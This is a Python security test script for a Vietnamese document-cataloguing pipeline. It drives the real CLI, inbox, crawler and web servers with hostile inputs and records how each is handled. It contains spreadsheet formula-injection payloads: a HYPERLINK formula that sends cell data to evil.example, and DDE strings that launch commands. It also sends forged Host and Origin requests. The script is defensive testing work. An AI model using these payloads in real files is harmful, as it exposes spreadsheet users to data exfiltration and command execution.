"""Re-run the attack on the pipeline (issue: hardening) and print each attack with its outcome.

Every case drives the real program (`cchc` in a child process, the inbox, the crawler against a
local site on 127.0.0.1, `cchc serve`, `cchc web`) and classifies what happened:

- good: "recorded failure" (the input is a failure with its reason, the run goes on), "refused"
  (the input or request is turned away with a reason), "read correctly" (a hostile but legitimate
  input is read right, within its bounds);
- bad: "traceback", "hang" (over the case's time bound), "leak" (data, a process, a file or a
  request got out), "lost" (a file is neither catalogued nor recorded), "wrong" (any other
  failed expectation).

    .venv/bin/python scripts/attack.py                 # every case (about 5 minutes on 2 cores)
    .venv/bin/python scripts/attack.py --skip-serve    # without the Prefect server case
    .venv/bin/python scripts/attack.py --out docs/attack-table.md
"""
from __future__ import annotations

import argparse
import base64
import hashlib
import http.client
import io
import json
import os
import random
import re
import shutil
import signal
import sqlite3
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.request
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))
sys.path.insert(0, str(ROOT / "tests"))
from procs import children, cpu_seconds  # noqa: E402 - after the path to tests/
CORPUS = ROOT / "corpus"
CCHC = [sys.executable, "-m", "cchc"]
GOOD = ("recorded failure", "refused", "read correctly")
# Attacks whose defence is a time limit run with a short one, so the table takes minutes, not hours.
ATTACK_ENV = {"CCHC_DOCUMENT_TIME_LIMIT": "30", "CCHC_LANG": "en"}  # the cases read English messages


class Outcome(Exception):
    """Raised by a check to end a case with this outcome."""

    def __init__(self, outcome: str, detail: str) -> None:
        super().__init__(detail)
        self.outcome, self.detail = outcome, detail


@dataclass
class Case:
    group: str
    attack: str
    run: Callable[[Path], tuple[str, str]]


def cchc(*args: str, timeout: float = 300, env: dict | None = None, cwd: Path = ROOT) -> subprocess.CompletedProcess:
    """The real command; a hang or a traceback ends the case."""
    try:
        proc = subprocess.run([*CCHC, *args], cwd=cwd, capture_output=True, text=True, timeout=timeout,
                              env={**os.environ, **ATTACK_ENV, **(env or {})})
    except subprocess.TimeoutExpired:
        raise Outcome("hang", f"`cchc {' '.join(args[:2])}` still running after {timeout:g} s") from None
    if "Traceback" in proc.stderr or "Traceback" in proc.stdout:
        raise Outcome("traceback", last_line(proc.stderr))
    return proc


def expect(condition: bool, outcome: str, detail: str) -> None:
    if not condition:
        raise Outcome(outcome, detail)


def failures(db: Path) -> dict[str, tuple[str, str]]:
    with sqlite3.connect(db) as conn:
        return {p: (c, r) for p, c, r in conn.execute("SELECT path, code, reason FROM failures")}


def scalar(db: Path, sql: str, params: tuple = ()):
    if not db.exists():
        return 0  # nothing was ever written
    with sqlite3.connect(db) as conn:
        return conn.execute(sql, params).fetchone()[0]


def last_line(text: str) -> str:
    """The exception line of the first traceback in ``text``, else its last line."""
    lines = text.strip().splitlines()
    if "Traceback (most recent call last):" in lines:
        after = lines[lines.index("Traceback (most recent call last):") + 1:]
        return next((line for line in after if line and not line.startswith(" ")), "")[:300]
    return lines[-1][:200] if lines else ""


def dev(name: str) -> bytes:
    return (CORPUS / "dev" / name).read_bytes()


HANOI, Q6 = "hanoi-dang-ky-sang-kien-2021.txt", "q6-nhan-rong-sang-kien-2020.txt"


def heavy_text(repeats: int) -> bytes:
    text = dev(HANOI).decode("utf-8")
    return (text + "\n" + "\n".join([text.split("\n", 1)[1]] * repeats)).encode("utf-8")


# --- one bad file never stops a batch -----------------------------------------------------------------

def lying_page_count(tmp: Path) -> tuple[str, str]:
    files = tmp / "batch"
    files.mkdir()
    pdf = (CORPUS / "real" / "an-le-28-2019.pdf").read_bytes()
    lying = re.sub(rb"/Count (\d+)", lambda m: b"/Count " + str(int(m.group(1)) * 5).encode(), pdf)
    (files / "a-lying.pdf").write_bytes(lying)
    for name in ("an-le-27-2019.pdf", "kon-tum-435-qd-ubnd-2020.txt", "an-le-18-2018.docx"):
        shutil.copy(CORPUS / "real" / name, files / name)
    shutil.copy(CORPUS / "dev" / Q6, files / Q6)
    proc = cchc("ingest", str(files), "--db", str(tmp / "c.db"), "--raw", str(tmp / "raw"))
    documents = scalar(tmp / "c.db", "SELECT COUNT(*) FROM documents")
    failed = failures(tmp / "c.db")
    expect(documents + len(failed) == 5 and documents >= 4, "lost", f"{documents} documents, {len(failed)} failures of 5")
    if failed:
        return "recorded failure", f"the other 4 catalogued; {next(iter(failed.values()))[1]}"
    return "read correctly", f"5 of 5 catalogued (the pages it lacks skipped with a warning); exit {proc.returncode}"


def mutated_batch(tmp: Path) -> tuple[str, str]:
    from mutations import mutate

    rnd = random.Random(4)
    files = tmp / "mutants"
    files.mkdir()
    sources = [CORPUS / "real" / "an-le-27-2019.pdf", CORPUS / "real" / "an-le-28-2019.pdf",
               CORPUS / "fixtures" / "qd435-tasks.pdf", CORPUS / "real" / "an-le-18-2018.docx",
               CORPUS / "real" / "an-le-20-2018.docx", CORPUS / "fixtures" / "qd435-tasks.docx"]
    written = []
    for i in range(120):
        src = sources[i % len(sources)]
        target = files / f"m{i:03d}{src.suffix}"
        target.write_bytes(mutate(src.read_bytes(), src.suffix, rnd))
        written.append(target)
    cchc("ingest", str(files), "--db", str(tmp / "c.db"), "--raw", str(tmp / "raw"))
    with sqlite3.connect(tmp / "c.db") as conn:  # a file with the text of another is one more file of it
        catalogued = {r[0] for r in conn.execute("SELECT sha256 FROM documents UNION SELECT sha256 FROM files")}
        integrity = conn.execute("PRAGMA integrity_check").fetchone()[0]
    failed = failures(tmp / "c.db")
    lost = [f for f in written if str(f) not in failed and hashlib.sha256(f.read_bytes()).hexdigest() not in catalogued]
    expect(not lost and integrity == "ok", "lost", f"{len(lost)} neither catalogued nor recorded; integrity {integrity}")
    codes: dict[str, int] = {}
    for code, _ in failed.values():
        codes[code] = codes.get(code, 0) + 1
    expect(not {"reader-error", "worker-died"} & set(codes), "wrong", f"a reader let an exception through: {codes}")
    return "recorded failure", (f"120 mutated PDF/DOCX: {len(written) - len(failed)} catalogued, {len(failed)} failures "
                                f"({', '.join(f'{n} {c}' for c, n in sorted(codes.items()))}); integrity ok")


def killed_worker(tmp: Path) -> tuple[str, str]:
    files = tmp / "files"
    files.mkdir()
    (files / "a-heavy.txt").write_bytes(heavy_text(300))
    for name in (HANOI, Q6):
        (files / name).write_bytes(dev(name))
    proc = subprocess.Popen([*CCHC, "ingest", str(files), "--db", str(tmp / "c.db"), "--workers", "1"], cwd=ROOT,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline, workers = time.monotonic() + 60, []
    while not workers and time.monotonic() < deadline and proc.poll() is None:  # the worker busy on a-heavy.txt
        workers = [w for w in children(proc.pid) if cpu_seconds(w) >= 0.5]
    expect(bool(workers), "wrong", "no extraction worker got to work")
    os.kill(workers[0], signal.SIGKILL)
    try:
        out, err = proc.communicate(timeout=300)
    except subprocess.TimeoutExpired:
        proc.kill()
        raise Outcome("hang", "the batch did not finish after its worker was killed") from None
    expect("Traceback" not in err, "traceback", last_line(err))
    expect("3 files: 1 failed, 2 new" in out, "lost", out.strip())
    return "recorded failure", next(iter(failures(tmp / "c.db").values()))[1]



def fifo_and_device(tmp: Path) -> tuple[str, str]:
    os.mkfifo(tmp / "tin.txt")
    proc = cchc("ingest", str(tmp / "tin.txt"), "/dev/zero", "--db", str(tmp / "c.db"), timeout=60)
    expect(proc.returncode == 1, "wrong", f"exit {proc.returncode}")
    return "refused", "; ".join(line.split(": ", 2)[-1] for line in proc.stderr.strip().splitlines()[-2:])


def huge_sparse_file(tmp: Path) -> tuple[str, str]:
    big = tmp / "big.pdf"
    with open(big, "wb") as f:
        f.truncate(3 * 2**30)
    code = ("import resource, sys; from cchc.cli import main; sys.argv = ['cchc', 'ingest', %r, '--db', %r]\n"
            "try:\n    main()\nexcept SystemExit:\n"
            "    print('peak', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024, file=sys.stderr); raise")
    proc = subprocess.run([sys.executable, "-c", code % (str(big), str(tmp / "c.db"))], cwd=ROOT,
                          capture_output=True, text=True, timeout=120)
    peak = int(re.search(r"peak (\d+)", proc.stderr).group(1))
    expect(peak < 500, "leak", f"peak memory {peak} MB for a refused file")
    expect("over the 100 MB cap" in proc.stderr, "wrong", proc.stderr[-200:])
    return "refused", f"3 GB file refused before reading (peak memory {peak} MB)"


def time_bound(seconds: float, limit: float, what: str) -> None:
    expect(seconds < limit, "hang", f"{what} took {seconds:.0f} s (bound {limit:g} s)")


def unclosed_tags(tmp: Path) -> tuple[str, str]:
    unit = b"<title>a <meta property='og:title' <h1>b "
    page = tmp / "unclosed.html"
    page.write_bytes(b"<html><head>" + unit * (250_000 // len(unit)))
    started = time.monotonic()
    proc = cchc("text", str(page), timeout=120)
    time_bound(time.monotonic() - started, 30, "250 KB of unclosed tags")
    return "read correctly", f"250 KB of unclosed <title>/<meta>/<h1> read in {time.monotonic() - started:.1f} s (exit {proc.returncode})"


def long_text(tmp: Path, megabytes: int) -> tuple[str, str]:
    target = tmp / f"long-{megabytes}mb.txt"
    body = heavy_text(1)
    target.write_bytes(body * (megabytes * 2**20 // len(body) + 1))
    started = time.monotonic()
    proc = cchc("ingest", str(target), "--db", str(tmp / "c.db"), timeout=600)
    seconds = time.monotonic() - started
    failed = failures(tmp / "c.db")
    if failed:
        code, reason = next(iter(failed.values()))
        return "recorded failure", f"{megabytes} MB text: {reason} ({seconds:.0f} s)"
    expect(proc.returncode == 0, "wrong", proc.stderr[-200:])
    return "read correctly", f"{megabytes} MB text catalogued in {seconds:.0f} s"


def docx_with(tmp: Path, name: str, document_xml: bytes) -> Path:
    source = zipfile.ZipFile(CORPUS / "real" / "an-le-20-2018.docx")
    target = tmp / name
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            out.writestr(info.filename, document_xml if info.filename == "word/document.xml" else source.read(info))
    return target


def docx_huge_xml(tmp: Path) -> tuple[str, str]:
    paragraph = b"<w:p><w:r><w:t>Ke hoach so 12/KH-UBND</w:t></w:r></w:p>"
    body = b"<w:body>" + paragraph * (80 * 2**20 // len(paragraph)) + b"</w:body>"
    xml = (b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
           b'wordprocessingml/2006/main">' + body + b"</w:document>")
    target = docx_with(tmp, "huge.docx", xml)
    started = time.monotonic()
    proc = cchc("ingest", str(target), "--db", str(tmp / "c.db"), timeout=120)
    expect(proc.returncode == 1, "wrong", f"exit {proc.returncode}")
    return "refused", f"{next(iter(failures(tmp / 'c.db').values()))[1]} ({target.stat().st_size // 1024} KB file, " \
                      f"{time.monotonic() - started:.0f} s)"


def docx_grid_span(tmp: Path) -> tuple[str, str]:
    xml = zipfile.ZipFile(CORPUS / "real" / "an-le-20-2018.docx").read("word/document.xml")
    cell = (b'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr><w:p><w:r><w:t>A</w:t></w:r></w:p>'
            b"</w:tc></w:tr>" + b'<w:tr><w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc></w:tr>' * 20000 + b"</w:tbl>")
    target = docx_with(tmp, "span.docx", xml.replace(b"<w:body>", b"<w:body>" + cell, 1))
    started = time.monotonic()
    proc = cchc("ingest", str(target), "--db", str(tmp / "c.db"), timeout=120)
    time_bound(time.monotonic() - started, 60, "gridSpan 10^9 and 20,000 merged rows")
    expect(proc.returncode in (0, 1), "wrong", proc.stderr[-200:])
    outcome = "read correctly" if proc.returncode == 0 else "recorded failure"
    return outcome, f"gridSpan=10^9 and a 20,000-row merged column in {time.monotonic() - started:.1f} s"


def ruled_pdf(tmp: Path, pages: int) -> Path:
    import pypdfium2 as pdfium

    source = pdfium.PdfDocument(str(CORPUS / "fixtures" / "qd435-tasks.pdf"))
    big = pdfium.PdfDocument.new()
    while len(big) < pages:
        big.import_pages(source)
    target = tmp / f"ruled-{pages}.pdf"
    big.save(str(target))
    return target


def many_ruled_pages(tmp: Path) -> tuple[str, str]:
    started = time.monotonic()
    target = ruled_pdf(tmp, 200)
    started = time.monotonic()
    cchc("ingest", str(target), "--db", str(tmp / "c.db"), timeout=300)
    seconds = time.monotonic() - started
    expect(scalar(tmp / "c.db", "SELECT COUNT(*) FROM documents") == 1, "wrong", "not catalogued")
    return "read correctly", f"200 ruled pages (every page a table) in {seconds:.0f} s: pdfplumber opened once"


def too_many_pages(tmp: Path) -> tuple[str, str]:
    target = ruled_pdf(tmp, 2004)
    started = time.monotonic()
    proc = cchc("ingest", str(target), "--db", str(tmp / "c.db"), timeout=120)
    expect(proc.returncode == 1, "wrong", f"exit {proc.returncode}")
    return "refused", f"{next(iter(failures(tmp / 'c.db').values()))[1]} ({time.monotonic() - started:.0f} s)"


# --- the inbox ------------------------------------------------------------------------------------------

def inbox_entry(tmp: Path, make: Callable[[Path], None], secret_marker: str | None = None) -> tuple[str, str]:
    inbox = tmp / "inbox"
    inbox.mkdir()
    make(inbox)
    old = time.time() - 3600
    for entry in inbox.iterdir():
        os.utime(entry, (old, old), follow_symlinks=False)
    proc = cchc("inbox", "--once", "--inbox", str(inbox), "--db", str(tmp / "c.db"), "--raw", str(tmp / "raw"),
                "--settle", "1", timeout=180)
    documents = scalar(tmp / "c.db", "SELECT COUNT(*) FROM documents")
    if secret_marker:
        leaked = scalar(tmp / "c.db", "SELECT COUNT(*) FROM documents WHERE text LIKE ?", (f"%{secret_marker}%",))
        expect(leaked == 0, "leak", "the target's content is in the catalogue")
    expect(documents == 0, "leak", f"{documents} documents catalogued")
    return "refused", (proc.stdout.strip().splitlines() or ["left in the inbox, not taken"])[0][:160]


def paused_copy(tmp: Path) -> tuple[str, str]:
    inbox = tmp / "inbox"
    inbox.mkdir()
    whole = (CORPUS / "real" / "kon-tum-435-qd-ubnd-2020.txt").read_bytes()
    target = inbox / "qd.txt"
    with open(target, "wb") as copier:
        copier.write(whole[: len(whole) // 2])
        copier.flush()
        old = time.time() - 3600
        os.utime(target, (old, old))
        cchc("inbox", "--once", "--inbox", str(inbox), "--db", str(tmp / "c.db"), "--settle", "60", timeout=120)
        expect(scalar(tmp / "c.db", "SELECT COUNT(*) FROM documents") == 0, "leak", "catalogued truncated")
        copier.write(whole[len(whole) // 2:])
    os.utime(target, (old, old))
    cchc("inbox", "--once", "--inbox", str(inbox), "--db", str(tmp / "c.db"), "--settle", "60", timeout=120)
    sha = scalar(tmp / "c.db", "SELECT sha256 FROM documents")
    expect(sha == hashlib.sha256(whole).hexdigest(), "wrong", "not catalogued whole once the copy ended")
    return "refused", "not taken while the copier held it open; taken whole after it closed"


# --- exports --------------------------------------------------------------------------------------------

PAYLOADS = ('=HYPERLINK("http://evil.example/?d="&A1,"Mở") Kế hoạch cải cách hành chính năm 2021',
            "+1+cmd|' /C calc'!A0 Kế hoạch cải cách hành chính năm 2021",
            "-2+3+cmd|' /C calc'!A0 Kế hoạch cải cách hành chính năm 2021",
            "@SUM(1+1)*cmd|' /C calc'!A0 Kế hoạch cải cách hành chính năm 2021")


def formula_injection(tmp: Path) -> tuple[str, str]:
    files = tmp / "files"
    files.mkdir()
    for i, payload in enumerate(PAYLOADS):
        (files / f"f{i}.txt").write_text(f"{payload}\n" + dev(Q6).decode("utf-8"), encoding="utf-8")
    cchc("ingest", str(files), "--db", str(tmp / "c.db"))
    cchc("export", "--db", str(tmp / "c.db"), "--format", "xlsx", "--out", str(tmp / "x.xlsx"))
    cchc("export", "--db", str(tmp / "c.db"), "--format", "csv", "--out", str(tmp / "csv"))
    from openpyxl import load_workbook

    live, seen = [], 0
    for sheet in load_workbook(tmp / "x.xlsx").worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and any(p.lstrip("'")[:8] in cell.value for p in PAYLOADS):
                    seen += 1
                    if cell.data_type == "f":
                        live.append(f"{sheet.title}!{cell.coordinate}")
    import csv

    raw_fields = []
    for path in (tmp / "csv").rglob("*.csv"):
        with open(path, encoding="utf-8-sig", newline="") as f:
            raw_fields += [v for row in csv.reader(f) for v in row if v[:1] in ("=", "+", "-", "@", "\t", "\r")
                           and any(p[1:8] in v for p in PAYLOADS)]
    expect(seen > 0, "wrong", "the payload titles are not in the export")
    expect(not live, "leak", f"{len(live)} live formulas in XLSX ({', '.join(live[:3])})")
    expect(not raw_fields, "leak", f"{len(raw_fields)} CSV fields start with a formula prefix")
    return "refused", f"{seen} cells with = + - @ titles: text in XLSX, prefixed with ' in CSV"


# --- network --------------------------------------------------------------------------------------------

def html_fetch(tmp: Path) -> tuple[str, str]:
    from localsite import ConnectionRecorder

    with ConnectionRecorder() as recorder:
        url = f"http://127.0.0.1:{recorder.port}/ngay-2001"
        page = tmp / "url-first.html"
        page.write_text(f"{url}<html><head><title>Tin</title></head><body><div><p>Kế&#32;hoạch&#32;số&#32;12/KH-UBND"
                        "</p><span>x</span></div></body></html>", encoding="utf-8")
        proc = cchc("extract", str(page), "--json", timeout=120)
    expect(not recorder.arrived, "leak", f"{len(recorder.arrived)} connection(s) made by extraction")
    date = json.loads(proc.stdout)["document"]["date"] if proc.returncode == 0 else None
    return "refused", f"no connection to the URL the page starts with (document date {date})"


def with_site(tmp: Path, setup: Callable, check: Callable) -> tuple[str, str]:
    from localsite import LocalSite

    with LocalSite() as site:
        setup(site)
        sources = site.sources_toml(tmp / "sources.toml")
        return check(site, sources)


def crawl_once(tmp: Path, sources: Path, env: dict | None = None) -> subprocess.CompletedProcess:
    code = ("import sys, json; from flows.crawl import crawl_flow; "
            f"r = crawl_flow(db_path={str(tmp / 'c.db')!r}, sources_path={str(sources)!r}, raw_root={str(tmp / 'raw')!r}, "
            "allow_private=True, timeout=2.0, delay_seconds=0.0, retry_delays=[0, 0], deadline=5.0); print(json.dumps(r))")
    try:
        proc = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, timeout=300,
                              env={**os.environ, **ATTACK_ENV, **(env or {})})
    except subprocess.TimeoutExpired:
        raise Outcome("hang", "the crawl did not finish") from None
    expect("Traceback" not in proc.stderr, "traceback", last_line(proc.stderr))
    expect(proc.returncode == 0, "wrong", proc.stderr[-300:])
    return proc


def crawl_crash(tmp: Path) -> tuple[str, str]:
    from localsite import article_page

    heavy = tmp / "heavy.txt"
    heavy.write_bytes(heavy_text(600))

    def setup(site):
        site.site.pages["/news/heavy.html"] = article_page(heavy)
        site.site.listings = {"1": ["/news/heavy.html", "/news/hanoi.html"], "2": ["/news/q6.html"]}

    def check(site, sources):
        first = json.loads(crawl_once(tmp, sources, {"CCHC_DOCUMENT_TIME_LIMIT": "1"}).stdout.splitlines()[-1])
        second = json.loads(crawl_once(tmp, sources, {"CCHC_DOCUMENT_TIME_LIMIT": "1"}).stdout.splitlines()[-1])
        heavy_url = f"{site.base}/news/heavy.html"
        expect(len(first["new"]) == 2 and [u for u, _ in first["failed"]] == [heavy_url], "wrong", str(first))
        expect([u for u, _ in second["deferred"]] == [heavy_url], "wrong", f"second crawl: {second}")
        expect(site.site.requests["/news/heavy.html"] == 1, "wrong", "fetched again before its back-off")
        return "recorded failure", (f"{dict(first['failed'])[heavy_url]}; the pages after it catalogued; "
                                    "next crawl waits for its back-off")

    return with_site(tmp, setup, check)


def robots_5xx(tmp: Path) -> tuple[str, str]:
    def setup(site):
        site.site.robots = (503, b"busy")

    def check(site, sources):
        result = json.loads(crawl_once(tmp, sources).stdout.splitlines()[-1])
        article_gets = sum(n for p, n in site.site.requests.items() if p.startswith(("/news", "/private")))
        expect(article_gets == 0 and not result["new"], "leak", f"{article_gets} article requests made")
        return "refused", result["failed"][0][1][:120]

    return with_site(tmp, setup, check)


def drip(tmp: Path) -> tuple[str, str]:
    def setup(site):
        site.site.listings = {"1": ["/news/drip.html", "/news/drip-headers.html", "/news/q6.html"], "2": []}

    def check(site, sources):
        started = time.monotonic()
        result = json.loads(crawl_once(tmp, sources).stdout.splitlines()[-1])
        failed = dict(result["failed"])
        expect(len(result["new"]) == 1 and len(failed) == 2, "wrong", str(result))
        return "recorded failure", f"{next(iter(failed.values()))} (each of 3 tries; crawl {time.monotonic() - started:.0f} s)"

    return with_site(tmp, setup, check)


def png(tmp: Path) -> tuple[str, str]:
    import zlib

    chunk = lambda kind, body: len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")
    image = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", (64).to_bytes(4, "big") * 2 + b"\x08\x02\x00\x00\x00")
             + chunk(b"IDAT", zlib.compress(b"".join(b"\x00" + bytes(range(0, 256, 4)) * 3 for _ in range(64))))
             + chunk(b"IEND", b""))

    def setup(site):
        site.site.pages["/news/chart.html"] = image
        site.site.types["/news/chart.html"] = "image/png"
        site.site.pages["/news/chart2.html"] = image  # the same bytes sent as text/html
        site.site.listings = {"1": ["/news/chart.html", "/news/chart2.html"], "2": []}

    def check(site, sources):
        result = json.loads(crawl_once(tmp, sources).stdout.splitlines()[-1])
        expect(not result["new"] and len(result["failed"]) == 2, "leak", str(result))
        return "recorded failure", "never read as text: " + " / ".join(reason for _, reason in result["failed"])

    return with_site(tmp, setup, check)


def exit_codes(tmp: Path) -> tuple[str, str]:
    sources = tmp / "dead.toml"
    sources.write_text('[[source]]\nname = "dead"\nowner = "Ủy ban nhân dân Quận 6"\n'
                       'listing = ["http://127.0.0.1:9/list?page={page}"]\narticle = ".*"\nmax_pages = 1\n'
                       "delay_seconds = 0\n", encoding="utf-8")
    crawl = cchc("crawl", "--once", "--sources", str(sources), "--db", str(tmp / "c.db"), "--raw", str(tmp / "raw"))
    inbox = tmp / "inbox"
    inbox.mkdir()
    (inbox / "broken.pdf").write_bytes(b"%PDF-1.7 truncated")
    old = time.time() - 3600
    os.utime(inbox / "broken.pdf", (old, old))
    box = cchc("inbox", "--once", "--inbox", str(inbox), "--db", str(tmp / "c.db"), "--settle", "1")
    expect(crawl.returncode == 1 and box.returncode == 1, "wrong", f"crawl exit {crawl.returncode}, inbox exit {box.returncode}")
    return "recorded failure", "crawl --once and inbox --once exit 1 when everything failed (each failure listed)"


def clean_crawl_log(tmp: Path) -> tuple[str, str]:
    def setup(site):
        pass

    def check(site, sources):
        proc = crawl_once(tmp, sources)
        noise = [l for l in proc.stderr.splitlines() if "cache key" in l or "Traceback" in l or "| ERROR" in l]
        expect(not noise, "traceback", noise[0][:160] if noise else "")
        return "recorded failure", ("a normal crawl (a 404, robots.txt, a timeout, a foreign redirect) logs its "
                                    f"summary only: {len(proc.stderr.splitlines())} lines, no traceback")

    return with_site(tmp, setup, check)


# --- open doors -----------------------------------------------------------------------------------------

def prefect_api(tmp: Path) -> tuple[str, str]:
    from flows.server import free_port

    port = free_port()
    proc = subprocess.Popen([*CCHC, "serve", "--port", str(port), "--db", str(tmp / "c.db"), "--inbox",
                             str(tmp / "inbox")], cwd=tmp, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
                            env={**os.environ, "PYTHONPATH": str(ROOT)}, start_new_session=True)
    try:
        for line in proc.stdout:
            if "deployments:" in line:
                break
        api = f"http://127.0.0.1:{port}/api"
        try:
            urllib.request.urlopen(f"{api}/deployments/")
            raise Outcome("leak", "the API answered without the secret")
        except urllib.error.HTTPError as exc:
            expect(exc.code == 401, "leak", f"unauthenticated request: HTTP {exc.code}")
        preflight = urllib.request.Request(f"{api}/deployments/filter", method="OPTIONS",
                                           headers={"Origin": "http://evil.example", "Access-Control-Request-Method": "POST"})
        try:
            urllib.request.urlopen(preflight)
            raise Outcome("leak", "a foreign origin was allowed")
        except urllib.error.HTTPError as exc:
            expect(exc.headers.get("access-control-allow-origin") is None, "leak", "CORS allows a foreign origin")
        secret = (tmp / "output" / "prefect" / "api-auth").read_text(encoding="utf-8").strip()
        auth = {"Authorization": "Basic " + base64.b64encode(secret.encode()).decode()}
        token = json.load(urllib.request.urlopen(urllib.request.Request(f"{api}/csrf-token?client=a", headers=auth)))
        headers = {**auth, "Prefect-Csrf-Token": token["token"], "Prefect-Csrf-Client": "a",
                   "Content-Type": "application/json"}
        deadline, found = time.monotonic() + 240, []
        while len(found) < 3 and time.monotonic() < deadline:
            time.sleep(1)  # the runner registers its deployments after serve reports them
            found = json.load(urllib.request.urlopen(urllib.request.Request(
                f"{api}/deployments/filter", data=b"{}", headers=headers, method="POST")))
        paths = {d["name"]: sorted(d["parameter_openapi_schema"].get("properties", {})) for d in found}
        expect(paths == {"crawl": [], "inbox": [], "reprocess": ["everything"]}, "leak", f"parameters: {paths}")
        return "refused", ("no secret: 401; foreign origin: no CORS; deployments take no path "
                           "(inbox, catalogue, sources fixed at start)")
    finally:
        os.killpg(proc.pid, signal.SIGTERM)
        proc.wait(timeout=60)


def web_request(port: int, path: str, host: str, method: str = "GET", body: bytes | None = None,
                headers: dict | None = None) -> tuple[int, dict, str]:
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    conn.putrequest(method, path, skip_host=True)
    conn.putheader("Host", host)
    for k, v in {**(headers or {}), **({"Content-Length": str(len(body))} if body is not None else {})}.items():
        conn.putheader(k, v)
    conn.endheaders(body)
    response = conn.getresponse()
    return response.status, dict(response.headers), response.read().decode("utf-8", "replace")


def review_page(tmp: Path) -> tuple[str, str]:
    from flows.server import free_port

    db = tmp / "c.db"
    cchc("ingest", str(CORPUS / "dev"), "--db", str(db))
    port = free_port()
    proc = subprocess.Popen([*CCHC, "web", "--db", str(db), "--port", str(port)], cwd=ROOT, stderr=subprocess.PIPE,
                            stdout=subprocess.DEVNULL, text=True,
                            env={**os.environ, "CCHC_REVIEWER": "Trần Văn Bình", "CCHC_REVIEW_THRESHOLD": "0.999"})
    try:
        for line in proc.stderr:
            if "Uvicorn running on" in line:
                break
        status, _, _ = web_request(port, "/review", "evil.example")
        expect(status == 421, "leak", f"Host evil.example answered {status}")
        pages = [web_request(port, "/review", f"127.0.0.1:{port}") for _ in range(2)]
        cookies = [h["set-cookie"].split(";")[0] for _, h, _ in pages]
        tokens = [re.search(r'name="csrf" value="([^"]+)"', html).group(1) for _, _, html in pages]
        item = re.search(r'data-id="(\d+)"', pages[0][2]).group(1)
        form = {"Content-Type": "application/x-www-form-urlencoded"}
        crossed = web_request(port, f"/review/{item}", f"127.0.0.1:{port}", "POST",
                              f"decision=accepted&csrf={tokens[0]}".encode(), {**form, "Cookie": cookies[1]})[0]
        expect(crossed == 403, "leak", f"another session's token accepted ({crossed})")
        own = web_request(port, f"/review/{item}", f"127.0.0.1:{port}", "POST",
                          f"decision=accepted&csrf={tokens[0]}".encode(), {**form, "Cookie": cookies[0]})[0]
        expect(own == 303, "wrong", f"the session's own token refused ({own})")
        reviewer = scalar(db, "SELECT reviewer FROM reviews")
        expect(reviewer == "Trần Văn Bình", "wrong", f"decision recorded as {reviewer!r}")
        return "refused", f"foreign Host: 421; another session's token: 403; decision recorded as {reviewer!r}"
    finally:
        proc.terminate()
        proc.wait(timeout=30)


def libreoffice_timeout(tmp: Path) -> tuple[str, str]:
    own_tmp = tmp / "tmpdir"  # the run's temporary files, apart from what others do in /tmp meanwhile
    own_tmp.mkdir()

    def ours() -> list[int]:
        pids = []
        for entry in Path("/proc").iterdir():
            try:
                if entry.name.isdigit() and str(own_tmp).encode() in (entry / "cmdline").read_bytes() \
                        and (entry / "stat").read_text().split()[2] != "Z":
                    pids.append(int(entry.name))
            except OSError:
                continue
        return pids

    proc = cchc("ingest", str(CORPUS / "real" / "an-le-10-2016.doc"), "--db", str(tmp / "c.db"),
                env={"CCHC_SOFFICE_TIMEOUT": "0.2", "TMPDIR": str(own_tmp)})
    deadline = time.monotonic() + 10
    while ours() and time.monotonic() < deadline:
        pass  # killed processes vanish asynchronously
    expect(not ours(), "leak", f"LibreOffice processes left: {ours()}")
    expect(not any(own_tmp.iterdir()), "leak", f"temporary files left: {[p.name for p in own_tmp.iterdir()]}")
    expect(proc.returncode == 1, "wrong", f"exit {proc.returncode}")
    return "recorded failure", f"{next(iter(failures(tmp / 'c.db').values()))[1]}; no soffice.bin, no temporary file left"


def read_only(tmp: Path) -> tuple[str, str]:
    folder = tmp / "archive"
    folder.mkdir()
    db = folder / "c.db"
    cchc("ingest", str(CORPUS / "dev"), "--db", str(db))
    db.chmod(0o444)
    folder.chmod(0o555)
    drop = ["setpriv", "--bounding-set=-all", "--inh-caps=-all"] if os.geteuid() == 0 else []
    try:
        runs = {}
        for args in (["summary", "--db", str(db)], ["query", "units", "--db", str(db)],
                     ["ingest", str(CORPUS / "real" / "kon-tum-435-qd-ubnd-2020.txt"), "--db", str(db)],
                     ["review", "--db", str(db), "accept", "1"]):
            proc = subprocess.run([*drop, *CCHC, *args], cwd=ROOT, capture_output=True, text=True, timeout=120)
            expect("Traceback" not in proc.stderr, "traceback", last_line(proc.stderr))
            runs[args[0]] = proc
    finally:
        folder.chmod(0o755)
        db.chmod(0o644)
    expect(runs["summary"].returncode == 0 and runs["query"].returncode == 0, "wrong", "a read command failed")
    write = runs["ingest"]
    expect(write.returncode == 1 and write.stderr.count("\n") == 1, "wrong", write.stderr[-200:])
    return "refused", f"reads work; a write: {write.stderr.strip()[:110]}"


def tcvn3(tmp: Path) -> tuple[str, str]:
    from mutations import to_tcvn3

    data, meant = to_tcvn3(dev(HANOI).decode("utf-8"))
    (tmp / "vntime.txt").write_bytes(data)
    (tmp / "unicode.txt").write_text(meant, encoding="utf-8")
    legacy = json.loads(cchc("extract", str(tmp / "vntime.txt"), "--json").stdout)
    unicode = json.loads(cchc("extract", str(tmp / "unicode.txt"), "--json").stdout)
    text = cchc("text", str(tmp / "vntime.txt")).stdout
    expect(text.count("ư") == meant.count("ư") and "trước" in text, "wrong", f"{text.count('ư')} 'ư' of {meant.count('ư')}")
